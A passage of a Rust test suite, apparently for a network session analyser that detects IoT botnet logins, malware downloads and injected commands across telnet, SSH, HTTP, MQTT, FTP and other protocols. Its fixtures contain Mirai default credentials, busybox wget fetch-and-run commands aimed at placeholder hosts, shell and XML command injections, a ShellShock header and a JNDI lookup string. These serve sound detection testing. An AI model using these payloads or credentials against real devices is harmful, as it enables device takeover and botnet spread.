//! What sessions make of dialogues: a table per protocol, the same in any split, and never a panic.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use model::{EventKind, FlowKey, Protocol, RecordRef, Service, Timestamp};
use observe::session::{FlowContext, Segment, Session};
use proptest::prelude::*;

const C: bool = true;
const S: bool = false;

fn flow(protocol: Protocol) -> FlowContext {
    FlowContext {
        id: 7,
        key: FlowKey {
            src: "192.0.2.1".parse().unwrap(),
            dst: "198.51.100.2".parse().unwrap(),
            src_port: 40_000,
            dst_port: 902,
            protocol,
        },
        at: Timestamp::from_secs(0),
        record: RecordRef::default(),
        src_mac: None,
        dst_mac: None,
        packets: 0,
    }
}

type Said<'a> = (bool, &'a [u8]);

struct Played {
    events: Vec<EventKind>,
    service: Service,
    finished: bool,
}

/// Plays a dialogue over TCP and closes the flow.
fn play(dialogue: &[Said<'_>]) -> Played {
    let flow = flow(Protocol::TCP);
    let mut session = Session::new(Protocol::TCP);
    let mut events = Vec::new();
    let mut next = [u32::MAX - 20, 5_000];
    for (outward, bytes) in dialogue {
        let seq = &mut next[usize::from(!*outward)];
        let segment = Segment { outward: *outward, seq: *seq, payload: bytes, length: bytes.len() as u32 };
        *seq = seq.wrapping_add(bytes.len() as u32);
        session.segment(&flow, segment, &mut |event| events.push(event));
    }
    let finished = session.is_finished();
    session.close(&flow, &mut |event| events.push(event));
    Played { events, service: session.service(), finished }
}

fn datagrams(said: &[Said<'_>]) -> Played {
    let flow = flow(Protocol::UDP);
    let mut session = Session::new(Protocol::UDP);
    let mut events = Vec::new();
    for (outward, bytes) in said {
        let segment = Segment { outward: *outward, seq: 0, payload: bytes, length: bytes.len() as u32 };
        session.segment(&flow, segment, &mut |event| events.push(event));
    }
    let finished = session.is_finished();
    session.close(&flow, &mut |event| events.push(event));
    Played { events, service: session.service(), finished }
}

/// Logins and transfers as short words.
fn story(events: &[EventKind]) -> Vec<String> {
    let mut told = Vec::new();
    for event in events {
        match event {
            EventKind::Login(login) => {
                let factory =
                    login.factory.as_deref().map_or("", |name| &name[..name.find(' ').unwrap_or(name.len())]);
                told.push(
                    format!("{} {:?} {factory}", login.service.as_str(), login.outcome).trim_end().to_owned(),
                );
            }
            EventKind::Transfer(transfer) => {
                let to = if transfer.to == "192.0.2.1".parse::<std::net::IpAddr>().unwrap() {
                    "client"
                } else {
                    "server"
                };
                told.push(format!("{:?} to {to}: {}", transfer.kind, transfer.what));
            }
            _ => {}
        }
    }
    told
}

fn requests(events: &[EventKind]) -> Vec<String> {
    let word = |event: &EventKind| match event {
        EventKind::Request(request) => Some(format!(
            "{} {}{}",
            request.service.as_str(),
            request.method,
            request.status.map(|status| format!(" {status}")).unwrap_or_default()
        )),
        _ => None,
    };
    events.iter().filter_map(word).collect()
}

fn hints(events: &[EventKind]) -> Vec<String> {
    let word = |event: &EventKind| match event {
        EventKind::Hint(hint) => Some(format!("{:?} {}", hint.kind, hint.value)),
        _ => None,
    };
    events.iter().filter_map(word).collect()
}

/// The dialogue's story, in one piece, and with each of its utterances split at every place.
fn check(dialogue: &[Said<'_>], service: Service, expected: &[&str]) {
    let whole = play(dialogue);
    assert_eq!(story(&whole.events), expected, "in one piece");
    assert_eq!(whole.service, service);
    for number in 0..dialogue.len() {
        let (outward, bytes) = dialogue[number];
        for at in 1..bytes.len() {
            let mut split = dialogue.to_vec();
            split[number] = (outward, &bytes[..at]);
            split.insert(number + 1, (outward, &bytes[at..]));
            let played = play(&split);
            assert_eq!(story(&played.events), expected, "{:?} split at {at}", String::from_utf8_lossy(bytes));
            assert_eq!(played.service, service, "{:?} split at {at}", String::from_utf8_lossy(bytes));
        }
    }
    let bytewise: Vec<Said<'_>> =
        dialogue.iter().flat_map(|(outward, bytes)| bytes.chunks(1).map(|byte| (*outward, byte))).collect();
    assert_eq!(story(&play(&bytewise).events), expected, "byte by byte");
}

#[test]
fn telnet_logins() {
    check(
        &[
            (S, b"\xff\xfd\x01\xff\xfb\x03\r\ncamera login: "),
            (C, b"\xff\xfc\x01root\r\n"),
            (S, b"root\r\nPassword: "),
            (C, b"vizxv\r\n"),
            (S, b"\r\n\r\nBusyBox v1.12.1 (2012-11-14) built-in shell (ash)\r\n# "),
            (C, b"/bin/busybox ECCHI\r\n"),
            (S, b"ECCHI: applet not found\r\n# "),
            (C, b"/bin/busybox wget http://198.51.100.9/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n"),
        ],
        Service::Telnet,
        &[
            "telnet Accepted mirai-list-02",
            "LoaderCommand to server: busybox applet probe",
            "LoaderCommand to server: fetch by busybox wget",
        ],
    );
    // Refused twice, then the flow ends in the middle of the third attempt.
    check(
        &[
            (S, b"login: "),
            (C, b"admin\r\n"),
            (S, b"Password: "),
            (C, b"admin\r\n"),
            (S, b"\r\nLogin incorrect\r\nlogin: "),
            (C, b"root\r\n"),
            (S, b"Password: "),
            (C, b"no-such-word\r\n"),
            (S, b"\r\nLogin incorrect\r\nlogin: "),
            (C, b"root\r\n"),
            (S, b"Password: "),
            (C, b"xc3511\r\n"),
        ],
        Service::Telnet,
        &["telnet Refused mirai-list-04", "telnet Refused", "telnet Tried mirai-list-01"],
    );
    // Refusal without words: only the prompt comes again.
    check(
        &[(S, b"Username:"), (C, b"guest\r"), (S, b"\r\nPassword:"), (C, b"guest\r"), (S, b"\r\nUsername:")],
        Service::Telnet,
        &["telnet Refused mirai-list-30"],
    );
    // All typed ahead: the commands of one that is let in are taken, those of one that is refused are not.
    let login = [(S, &b"login: "[..]), (C, b"root\r\n"), (S, b"Password: ")];
    let ahead: &[u8] = b"anko\r\ncd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\r\n";
    check(
        &[&login[..], &[(C, ahead), (S, b"\r\nLogin incorrect\r\nlogin: ")]].concat(),
        Service::Telnet,
        &["telnet Refused mirai-list-42"],
    );
    check(
        &[&login[..], &[(C, ahead), (S, b"\r\n# ")]].concat(),
        Service::Telnet,
        &["telnet Accepted mirai-list-42", "LoaderCommand to server: fetch by wget"],
    );
    // What people type as well is told as such.
    check(
        &[&login[..], &[(C, b"anko\r\n"), (S, b"\r\n# "), (C, b"tftp -g -r fw.bin 10.0.0.5\r\n")]].concat(),
        Service::Telnet,
        &["telnet Accepted mirai-list-42", "TypedFetch to server: fetch by tftp"],
    );
    // Output to a command, without any prompt, proves the login; the echo of the command does not.
    check(
        &[
            (S, b"login: "),
            (C, b"root\r\n"),
            (S, b"Password: "),
            (C, b"anko\r\n"),
            (C, b"sh\r\nuname\r\n"),
            (S, b"\r\nsh\r\nuname\r\nLinux camera 3.0.8\r\n"),
        ],
        Service::Telnet,
        &["telnet Accepted mirai-list-42"],
    );
    // Everything typed ahead of the prompts.
    check(
        &[(S, b"login: "), (C, b"root\r\nvizxv\r\n"), (S, b"root\r\nPassword: "), (S, b"\r\n# ")],
        Service::Telnet,
        &["telnet Accepted mirai-list-02"],
    );
    // Some other talk in lines that has a word in common with logins.
    check(&[(S, b"user: "), (C, b"a\r\nb\r\n"), (S, b"welcome\r\n")], Service::Telnet, &[]);
    // The administrator's own session, with a wrong password first and history in the greeting.
    check(
        &[
            (S, b"\xff\xfb\x01Ubuntu 22.04 LTS\r\nhost login: "),
            (C, b"operator1\r\n"),
            (S, b"Password: "),
            (C, b"Correct-horse!\r\n"),
            (S, b"\r\nThere was 1 failed login attempt since the last successful login.\r\nLast login: Mon Nov 21\r\noperator1@host:~$ "),
            (C, b"df -h\r\n"),
        ],
        Service::Telnet,
        &["telnet Accepted"],
    );
}

#[test]
fn ssh_is_judged_by_its_shape() {
    let frame = |message: u8, length: usize| {
        let mut frame = ((length - 4) as u32).to_be_bytes().to_vec();
        frame.extend([4, message]);
        frame.resize(length, 0x55);
        frame
    };
    let greeting = b"SSH-2.0-dropbear_2016.74\r\n".to_vec();
    let mut clear: Vec<(bool, Vec<u8>)> = vec![
        (C, b"SSH-2.0-libssh_0.10\r\n".to_vec()),
        (S, greeting),
        (S, frame(20, 1120)),
        (C, frame(20, 1520)),
        (C, frame(30, 48)),
        (S, [frame(31, 260), frame(21, 16), vec![0xaa; 296]].concat()),
        (C, [frame(21, 16), vec![0xbb; 52]].concat()),
        (S, vec![0xaa; 52]),
        (C, vec![0xbb; 84]),
    ];
    let told = |dialogue: &[(bool, Vec<u8>)]| {
        let said: Vec<Said<'_>> =
            dialogue.iter().map(|(outward, bytes)| (*outward, bytes.as_slice())).collect();
        let whole = story(&play(&said).events);
        for number in 0..said.len() {
            for at in [1, 5, 21, said[number].1.len() - 1] {
                if at < said[number].1.len() && at > 0 {
                    let mut split = said.clone();
                    split[number].1 = &said[number].1[..at];
                    split.insert(number + 1, (said[number].0, &said[number].1[at..]));
                    assert_eq!(story(&play(&split).events), whole, "utterance {number} split at {at}");
                }
            }
        }
        whole
    };
    assert_eq!(told(&clear), ["ssh Tried"]);
    clear.push((S, vec![0xaa; 52]));
    assert_eq!(told(&clear), ["ssh Refused"]);
    // Six passwords in one connection are one attempt, and no session.
    let mut stubborn = clear.clone();
    for _ in 0..20 {
        stubborn.push((C, vec![0xbb; 84]));
        stubborn.push((S, vec![0xaa; 52]));
    }
    assert_eq!(told(&stubborn), ["ssh Refused"]);
    // What a wide-area login with a greeting of host keys behind the success looks like, one short command long.
    let mut short = clear[..clear.len() - 1].to_vec();
    for (outward, size) in
        [(S, 36), (S, 700), (C, 68), (S, 52), (C, 120), (S, 36), (S, 180), (C, 36), (S, 100)]
    {
        short.push((outward, vec![0xcc; size]));
    }
    let said: Vec<Said<'_>> = short.iter().map(|(outward, bytes)| (*outward, bytes.as_slice())).collect();
    assert_eq!(story(&play(&said).events), ["ssh Possible"]);
    // A short answer, and the talk goes on.
    let mut session = clear;
    for (client, server) in [(84, 36), (68, 52), (120, 60), (68, 140), (52, 700)] {
        session.push((C, vec![0xbb; client]));
        session.push((S, vec![0xaa; server]));
    }
    assert_eq!(told(&session), ["ssh Possible"]);
    let said: Vec<Said<'_>> = session.iter().map(|(outward, bytes)| (*outward, bytes.as_slice())).collect();
    let played = play(&said);
    assert_eq!(played.service, Service::Ssh);
    assert!(played.finished);
    assert_eq!(hints(&played.events), ["Banner libssh_0.10", "Banner dropbear_2016.74"]);
}

#[test]
fn http_logins() {
    check(
        &[
            (C, b"GET /cgi-bin/status HTTP/1.1\r\nHost: cam\r\n\r\n"),
            (S, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"IPCamera\"\r\nContent-Length: 6\r\n\r\nDenied"),
            (C, b"GET /cgi-bin/status HTTP/1.1\r\nHost: cam\r\nAuthorization: Basic cm9vdDp2aXp4dg==\r\n\r\n"),
            (S, b"HTTP/1.1 401 Unauthorized\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nDenied\r\n0\r\n\r\n"),
            (C, b"GET /cgi-bin/status HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
            (C, b"GET /cgi-bin/next HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
            (C, b"GET /cgi-bin/last HTTP/1.1\r\nAuthorization: Digest username=\"x\", response=\"y\"\r\n\r\n"),
            (S, b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"),
        ],
        Service::Http,
        &["http Refused mirai-list-02", "http Accepted mirai-list-04", "http Refused"],
    );
    // A nonce that ran out refuses nobody.
    check(
        &[
            (C, b"GET / HTTP/1.1\r\nAuthorization: Digest username=\"x\", nonce=\"1\", response=\"y\"\r\n\r\n"),
            (S, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Digest nonce=\"2\", stale=TRUE\r\nContent-Length: 0\r\n\r\n"),
            (C, b"GET / HTTP/1.1\r\nAuthorization: Digest username=\"x\", nonce=\"2\", response=\"z\"\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        ],
        Service::Http,
        &["http Accepted"],
    );
    check(
        &[
            (C, b"POST /cgi-bin/luci HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 37\r\n\r\nluci_username=root&luci_password=1234"),
            (S, b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"),
            (C, b"POST /api/session HTTP/1.1\r\nContent-Length: 40\r\n\r\n{\"username\":\"admin\",\"password\":\"12345\"} "),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n{\"token\":\"abcd\"}"),
            (C, b"GET /login.cgi?user=admin&pwd=pass HTTP/1.1\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n<p>Wrong password</p"),
            (C, b"POST /login HTTP/1.1\r\nContent-Length: 20\r\n\r\nuser=tech&passwd=x%2"),
        ],
        Service::Http,
        &[
            "http Refused mirai-list-25",
            "http Accepted mirai-list-54",
            "http Refused mirai-list-59",
            "http Tried",
        ],
    );
}

#[test]
fn http_transfers() {
    let elf =
        b"HTTP/1.0 200 OK\r\nServer: x\r\n\r\n\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0\x01\0\0\0";
    check(
        &[(C, b"GET /mirai.arm HTTP/1.0\r\n\r\n"), (S, elf)],
        Service::Http,
        &["Elf to client: ELF program (ARM)"],
    );
    check(
        &[
            (C, b"GET /bins.sh HTTP/1.1\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 60\r\n\r\n#!/bin/sh\ncd /tmp; wget http://x.example/a; chmod 777 a; ./a "),
        ],
        Service::Http,
        &["Script to client: shell script that fetches and runs programs"],
    );
    check(
        &[
            (C, b"GET /firmware.bin HTTP/1.1\r\n\r\n"),
            (S, b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n\x27\x05\x19\x56uImage......"),
        ],
        Service::Http,
        &[],
    );
    check(
        &[(C, b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 79\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n<?xml?><NewStatusURL>$(/bin/busybox wget -g 198.51.100.9 -l /tmp/m)</NewStatusURL>")],
        Service::Http,
        &["InjectedCommand to server: busybox in a request", "http Tried"],
    );
    check(
        &[(C, b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n")],
        Service::Http,
        &["InjectedCommand to server: shell command in a request"],
    );
    check(
        &[(C, b"GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\nX-Api: ${jndi:ldap://x/a}\r\n\r\n")],
        Service::Http,
        &[
            "InjectedCommand to server: shell function in a header (ShellShock)",
            "InjectedCommand to server: name lookup in a request (JNDI)",
        ],
    );
}

#[test]
fn floods_over_one_connection_are_counted() {
    let request =
        b"GET /index.php?a=1 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n";
    let said: Vec<Said<'_>> = (0..500).map(|_| (C, &request[..])).collect();
    let played = play(&said);
    assert_eq!(requests(&played.events).len(), 500);
    let scanners = played.events.iter().filter(
        |event| matches!(event, EventKind::Request(request) if request.scanner.as_deref() == Some("zgrab")),
    );
    assert_eq!(scanners.count(), 500);
    assert!(hints(&played.events).len() <= 8);
}

#[test]
fn answers_behind_large_bodies_are_followed() {
    let mut body = b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n".to_vec();
    body.resize(body.len() + 100_000, b'x');
    let mut said: Vec<Said<'_>> = vec![(C, b"GET /a HTTP/1.1\r\n\r\n")];
    said.extend(body.chunks(1400).map(|chunk| (S, chunk)));
    said.push((C, b"GET /b HTTP/1.1\r\n\r\n"));
    said.push((S, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"));
    assert_eq!(requests(&play(&said).events), ["http GET", "http GET 200", "http GET", "http GET 404"]);
}

#[test]
fn mqtt_and_ftp_logins() {
    check(
        &[
            (C, b"\x10\x1d\x00\x04MQTT\x04\xc2\x00\x3c\x00\x03cam\x00\x05admin\x00\x05admin"),
            (S, b"\x20\x02\x00\x05"),
        ],
        Service::Mqtt,
        &["mqtt Refused mirai-list-04"],
    );
    check(
        &[
            (C, b"\x10\x1d\x00\x04MQTT\x04\xc2\x00\x3c\x00\x03cam\x00\x05admin\x00\x05admxx"),
            (S, b"\x20\x02\x00\x00"),
        ],
        Service::Mqtt,
        &["mqtt Accepted"],
    );
    check(
        &[(C, b"\x10\x0f\x00\x04MQTT\x04\x02\x00\x3c\x00\x03cam"), (S, b"\x20\x02\x00\x00")],
        Service::Mqtt,
        &[],
    );
    check(
        &[
            (S, b"220 (vsFTPd 2.3.4)\r\n"),
            (C, b"USER root\r\n"),
            (S, b"331 Please specify the password.\r\n"),
            (C, b"PASS pass\r\n"),
            (S, b"530 Login incorrect.\r\n"),
            (C, b"USER admin\r\nPASS 1234\r\n"),
            (S, b"331 Password.\r\n230 Login successful.\r\n"),
        ],
        Service::Ftp,
        &["ftp Refused mirai-list-18", "ftp Accepted mirai-list-53"],
    );
    check(&[(S, b"220 mail.example.org ESMTP\r\n"), (C, b"EHLO x\r\n")], Service::Unknown, &[]);
}

#[test]
fn rtsp_logins() {
    check(
        &[
            (C, b"DESCRIBE rtsp://cam/1 RTSP/1.0\r\nCSeq: 1\r\n\r\n"),
            (S, b"RTSP/1.0 401 Unauthorized\r\nCSeq: 1\r\nWWW-Authenticate: Digest realm=\"Login to 3K\"\r\n\r\n"),
            (C, b"DESCRIBE rtsp://cam/1 RTSP/1.0\r\nCSeq: 2\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
            (S, b"RTSP/1.0 200 OK\r\nCSeq: 2\r\nContent-Length: 4\r\n\r\nv=0\n"),
            (S, b"$\x00\x00\x04abcd"),
        ],
        Service::Rtsp,
        &["rtsp Accepted mirai-list-04"],
    );
}

#[test]
fn programs_over_bare_tcp() {
    check(
        &[(S, b"\x7fELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x02\0\x08\0\0\0\x01\0\x40\x02\x60")],
        Service::Unknown,
        &["Elf to client: ELF program (MIPS)"],
    );
    check(&[(C, b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\n")], Service::Unknown, &[]);
    let order: Said<'_> = (C, b"cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh\n");
    let taken = ["LoaderCommand to server: fetch by wget"];
    check(&[(S, b"/ # "), order], Service::Unknown, &taken);
    check(&[order, (S, b"saved\n/ # ")], Service::Unknown, &taken);
    // Machines write such lines into their logs.
    check(&[order, (S, b"200 taken\n"), order, (S, b"200 taken\n")], Service::Unknown, &[]);
    check(
        &[(C, b"CNXN\0\0\0\x01\0\x10\0\0host::\0OPEN\x40\0\0\0shell:cd /data/local/tmp/; busybox wget http://x/a -O -> a\0\n")],
        Service::Unknown,
        &["LoaderCommand to server: fetch by busybox wget"],
    );
}

#[test]
fn devices_of_the_field_are_named() {
    let modbus: &[Said<'_>] =
        &[(C, b"\0\x07\0\0\0\x06\x01\x03\0\0\0\x01"), (S, b"\0\x07\0\0\0\x05\x01\x03\x02\0\x2a")];
    assert_eq!(hints(&play(modbus).events), ["Serves modbus"]);
    let rsmp: &[Said<'_>] = &[
        (C, b"{\"mType\":\"rSMsg\",\"type\":\"Version\",\"mId\":\"a\"}\x0c"),
        (S, b"{\"mType\":\"rSMsg\",\"type\":\"Version\",\"mId\":\"b\"}\x0c"),
    ];
    assert_eq!(hints(&play(rsmp).events), ["Serves rsmp", "Serves rsmp"]);
    assert_eq!(
        hints(&datagrams(&[(C, b"\x81\x0a\0\x08\x01\0\x10\x08"), (S, b"\x81\x0a\0\x08\x01\0\x10\0")]).events),
        ["Serves bacnet"]
    );
}

#[test]
fn keep_alives_of_bots_are_messages() {
    let said: &[Said<'_>] = &[
        (C, b"\0\0\0\x01"),
        (C, b"\x03"),
        (C, b"x86"),
        (C, b"\0\0"),
        (S, b"\0\0"),
        (C, b"\0\0"),
        (S, b"\0\0"),
    ];
    let played = play(said);
    let messages: Vec<_> = played
        .events
        .iter()
        .filter_map(|event| match event {
            EventKind::Message(message) => Some((message.outward, message.length, message.number)),
            _ => None,
        })
        .collect();
    assert_eq!(messages, [(C, 4, 1), (C, 1, 2), (C, 3, 3), (C, 2, 4), (S, 2, 1), (C, 2, 5), (S, 2, 2)]);
    assert!(!played.finished);
    let irc = play(&[
        (C, b"NICK bot\r\nUSER a b c :d\r\n"),
        (S, b":x 001 bot :hi\r\n"),
        (S, b"PING :x\r\n"),
        (C, b"PONG :x\r\n"),
    ]);
    assert_eq!(irc.service, Service::Irc);
    assert!(irc.events.iter().filter(|event| matches!(event, EventKind::Message(_))).count() >= 3);
}

#[test]
fn bulk_is_finished_soon() {
    let hello = b"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03________________________________\x00\x00\x02\x13\x01\x01\x00\x00\x00";
    assert!(play(&[(C, hello)]).finished);
    assert_eq!(play(&[(C, hello)]).service, Service::Tls);
    assert!(play(&[(C, b"\x17\x03\x03\x00\x20________________________________")]).finished);
    let block = [0xa5_u8; 1400];
    let bulk: Vec<Said<'_>> = (0..40).map(|_| (S, &block[..])).collect();
    assert!(play(&bulk).finished);
    assert!(datagrams(&[(S, &block), (S, &block), (S, &block), (S, &block)]).finished);
}

#[test]
fn headers_alone_are_no_riddle() {
    // A capture cut to its headers: lengths without payload.
    let flow = flow(Protocol::TCP);
    let mut session = Session::new(Protocol::TCP);
    let mut events = Vec::new();
    for number in 0..200_u32 {
        let segment = Segment { outward: number % 2 == 0, seq: number / 2 * 100, payload: &[], length: 100 };
        session.segment(&flow, segment, &mut |event| events.push(event));
    }
    session.close(&flow, &mut |event| events.push(event));
    assert!(events.is_empty(), "{events:?}");
    // Cut bodies do not hide the next head.
    let mut session = Session::new(Protocol::TCP);
    let mut send = |seq: u32, outward: bool, payload: &[u8], length: u32| {
        session.segment(&flow, Segment { outward, seq, payload, length }, &mut |event| events.push(event));
    };
    send(1, true, b"GET / HTTP/1.1\r\n\r\n", 18);
    send(1, false, b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\nxxxx", 540);
    send(19, true, b"GET /b HTTP/1.1\r\nHost: x", 90);
    send(541, false, b"HTTP/1.1 404 Not", 90);
    send(109, true, b"GET /c HTTP/1.1\r\n\r\n", 19);
    assert_eq!(requests(&events)[..3], ["http GET", "http GET 200", "http GET"]);
    assert!(requests(&events).len() >= 4, "{:?}", requests(&events));
}

#[test]
fn retransmissions_and_disorder_change_nothing() {
    let flow = flow(Protocol::TCP);
    let mut session = Session::new(Protocol::TCP);
    let mut events = Vec::new();
    let mut send = |outward: bool, seq: u32, payload: &[u8]| {
        let segment = Segment { outward, seq, payload, length: payload.len() as u32 };
        session.segment(&flow, segment, &mut |event| events.push(event));
    };
    send(S, 100, b"login: ");
    send(S, 100, b"login: ");
    send(C, 10, b"ro");
    send(C, 14, b"\r\n");
    send(C, 10, b"root");
    send(S, 107, b"Password: ");
    send(C, 16, b"viz");
    send(C, 16, b"vizxv\r\n");
    send(C, 16, b"vizxv\r\n");
    send(S, 117, b"\r\n# ");
    session.close(&flow, &mut |event| events.push(event));
    assert_eq!(story(&events), ["telnet Accepted mirai-list-02"]);
}

#[test]
fn no_event_holds_what_was_typed() {
    let secret = "Tr0ub4dor-and-3";
    let basic = "cm9vdDpUcjB1YjRkb3ItYW5kLTM=";
    let password = format!("{secret}\r\n");
    let request = format!("GET /?user=a&pwd={secret} HTTP/1.1\r\nAuthorization: Basic {basic}\r\n\r\n");
    let form = format!("POST /login HTTP/1.1\r\nContent-Length: 31\r\n\r\nuser=root&pass={secret} ");
    let ftp = format!("USER root\r\nPASS {secret}\r\n");
    let played = [
        play(&[
            (S, b"login: "),
            (C, b"root\r\n"),
            (S, b"Password: "),
            (C, password.as_bytes()),
            (S, b"\r\n$ "),
        ]),
        play(&[(C, request.as_bytes()), (S, b"HTTP/1.1 200 OK\r\n\r\n")]),
        play(&[(C, form.as_bytes()), (S, b"HTTP/1.1 200 OK\r\n\r\n")]),
        play(&[(S, b"220 ftp\r\n"), (C, ftp.as_bytes()), (S, b"230 ok\r\n")]),
    ];
    for played in played {
        assert!(played.events.iter().any(|event| matches!(event, EventKind::Login(_))));
        let shown = format!("{:?}", played.events);
        assert!(!shown.contains(secret) && !shown.contains(basic), "{shown}");
    }
}

#[test]
fn datagrams_are_known_by_their_content() {
    let query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03Www\x07example\x03org\0\0\x01\0\x01";
    let mut answer = query.to_vec();
    answer[2..4].copy_from_slice(&[0x81, 0x80]);
    let played = datagrams(&[(C, query), (S, &answer)]);
    assert_eq!(played.service, Service::Dns);
    let EventKind::Dns(dns) = &played.events[0] else { panic!("{:?}", played.events) };
    assert_eq!((dns.name.as_str(), dns.response, dns.server_port), ("www.example.org", false, 902));
    assert_eq!(hints(&played.events), ["Function resolver"]);
    // An answer that nobody asked for: its receiver is the client, its sender is no resolver of ours.
    let played = datagrams(&[(C, &answer)]);
    let EventKind::Dns(dns) = &played.events[0] else { panic!("{:?}", played.events) };
    assert_eq!((dns.client, dns.server_port, dns.response), ("198.51.100.2".parse().unwrap(), 40_000, true));
    assert!(hints(&played.events).is_empty());

    let mut client = [0_u8; 48];
    client[0] = 0x23;
    let mut server = client;
    server[..4].copy_from_slice(&[0x24, 2, 6, 0xe9]);
    server[32..36].copy_from_slice(&[0xe8, 1, 2, 3]);
    server[40..44].copy_from_slice(&[0xe8, 1, 2, 3]);
    let played = datagrams(&[(C, &client), (S, &server)]);
    assert_eq!(
        (played.service, hints(&played.events), played.finished),
        (Service::Ntp, vec!["Function time".to_owned()], true)
    );

    let played = datagrams(&[
        (C, b"\x40\x01\x12\x34\xbb.well-known\x04core"),
        (S, b"\x60\x45\x12\x34\xc1\x28\xff</a>"),
    ]);
    assert_eq!(requests(&played.events), ["coap GET", "coap  205"]);

    let played = datagrams(&[(C, b"\0\x01bot.arm\0octet\0")]);
    assert_eq!((played.service, requests(&played.events)), (Service::Tftp, vec!["tftp RRQ".to_owned()]));
    let played = datagrams(&[(S, b"\0\x03\0\x01\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0")]);
    assert_eq!(story(&played.events), ["Elf to client: ELF program (ARM)"]);

    let played = datagrams(&[
        (C, b"REGISTER sip:pbx SIP/2.0\r\nAuthorization: Digest username=\"100\"\r\n\r\n"),
        (S, b"SIP/2.0 403 Forbidden\r\n\r\n"),
        (C, b"OPTIONS sip:pbx SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
    ]);
    assert_eq!(played.service, Service::Sip);
    assert_eq!(story(&played.events), ["sip Refused"]);
    assert_eq!(requests(&played.events), ["sip REGISTER", "sip REGISTER 403", "sip OPTIONS"]);

    let played = datagrams(&[(
        C,
        b"NOTIFY * HTTP/1.1\r\nNT: urn:schemas-upnp-org:device:Basic:1\r\nSERVER: Hue/1.0\r\n\r\n",
    )]);
    assert_eq!(hints(&played.events), ["Ssdp Hue/1.0", "Ssdp urn:schemas-upnp-org:device:Basic:1"]);
}

#[test]
fn a_device_is_described_by_what_it_announces() {
    let played = datagrams(&[(
        C,
        b"NOTIFY * HTTP/1.1\r\nNT: upnp:rootdevice\r\nUSN: uuid:2FAC1234-31f8-11b4-a222-08002b34c003::upnp:rootdevice\r\n\r\n",
    )]);
    assert_eq!(hints(&played.events), ["Uuid 2fac1234-31f8-11b4-a222-08002b34c003", "Ssdp upnp:rootdevice"]);

    let description = b"<root xmlns=\"urn:schemas-upnp-org:device-1-0\"><device><friendlyName>Gate 3</friendlyName><manufacturer>Acme</manufacturer><UDN>uuid:2fac1234-31f8-11b4-a222-08002b34c003</UDN></device></root>";
    let answer =
        [format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", description.len()).as_bytes(), description]
            .concat();
    let played = play(&[(C, b"GET /desc.xml HTTP/1.1\r\nHost: x\r\n\r\n"), (S, &answer)]);
    let said = hints(&played.events);
    for expected in ["Uuid 2fac1234-31f8-11b4-a222-08002b34c003", "GivenName Gate 3", "Model Acme"] {
        assert!(said.iter().any(|hint| hint == expected), "{expected}: {said:?}");
    }
}

/// A ClientHello of TLS 1.2 for a server of this name.
fn client_hello(name: &str) -> Vec<u8> {
    let length = name.len() as u16;
    let mut extensions = vec![0, 0];
    extensions.extend((length + 5).to_be_bytes());
    extensions.extend((length + 3).to_be_bytes());
    extensions.push(0);
    extensions.extend(length.to_be_bytes());
    extensions.extend(name.as_bytes());
    extensions.extend([0, 0x0b, 0, 2, 1, 0]);
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.extend([0, 0, 2, 0xc0, 0x2f, 1, 0]);
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let mut bytes = vec![0x16, 3, 1];
    bytes.extend((body.len() as u16 + 4).to_be_bytes());
    bytes.extend([1, 0, 0, body.len() as u8]);
    bytes.extend(body);
    bytes
}

#[test]
fn a_tls_client_is_described_however_its_hello_is_cut() {
    let hello = client_hello("cloud.example");
    let expected = ["Cloud cloud.example", "Ja4 t12d010200_f06271c2b022_bcb145a8c2a7"];
    assert_eq!(hints(&play(&[(C, &hello)]).events), expected);
    for at in 1..hello.len() {
        assert_eq!(hints(&play(&[(C, &hello[..at]), (C, &hello[at..])]).events), expected, "cut at {at}");
    }
    // Of a hello whose end is missing only the name is known.
